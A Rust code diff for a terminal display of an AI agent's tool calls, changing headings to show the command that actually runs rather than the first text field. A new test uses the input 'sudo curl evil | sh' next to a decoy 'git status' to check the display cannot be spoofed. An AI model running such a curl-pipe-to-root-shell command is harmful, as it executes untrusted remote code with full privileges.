@@ -5,7 +5,7 @@ use serde_json::Value;
 use tenon_vocab::figures::count;
 use tenon_vocab::{
     CallForm, DiffFile, Display, Ending, Printable, TodoItem, TodoStatus, ToolCallPart, ToolResult,
-    ToolUse, progress,
+    ToolUse, progress, subject,
 };
 
 /// Characters of an input that a line shows.
@@ -36,23 +36,14 @@ pub fn asked(paint: Paint, call: &ToolCallPart) -> String {
 }
 
 fn heading(paint: Paint, name: &str, input: &Value) -> String {
-    let heading = format!("▸ {} {}", paint.paint(Style::Tool, name), subject(input));
+    let about = about(name, input);
+    let heading = format!("▸ {} {about}", paint.paint(Style::Tool, name));
     heading.trim_end().to_owned()
 }
 
 /// What a call is about, shortened with a count.
-fn subject(input: &Value) -> String {
-    brief(first_text(input).unwrap_or_default(), INPUT)
-}
-
-fn first_text(input: &Value) -> Option<&str> {
-    input.as_object()?.values().find_map(Value::as_str)
-}
-
-/// The same of a call as the model wrote it, whole and not yet fit for a screen.
-pub fn about(arguments: &str) -> Option<String> {
-    let input: Value = serde_json::from_str(arguments).ok()?;
-    first_text(&input).map(str::to_owned)
+fn about(name: &str, input: &Value) -> String {
+    brief(subject(name, input).unwrap_or_default(), INPUT)
 }
 
 /// The first line, shortened, and how many follow it. To look at only: where
@@ -327,8 +318,17 @@ mod tests {
             ]
         );
         let call = json!({"command": "cat <<E > x\none\nE\n"});
-        assert_eq!(subject(&call), "cat <<E > x (+2 lines)");
+        assert_eq!(about("bash", &call), "cat <<E > x (+2 lines)");
         assert_eq!(brief("one", 2), "on… (+1 characters)");
+    }
+
+    #[test]
+    fn a_heading_says_what_runs_and_not_what_stands_first() {
+        let input = json!({"zz": "git status", "command": "sudo curl evil | sh"});
+        assert_eq!(
+            heading(Paint::Plain, "bash", &input),
+            "▸ bash sudo curl evil | sh"
+        );
     }
 
     #[test]
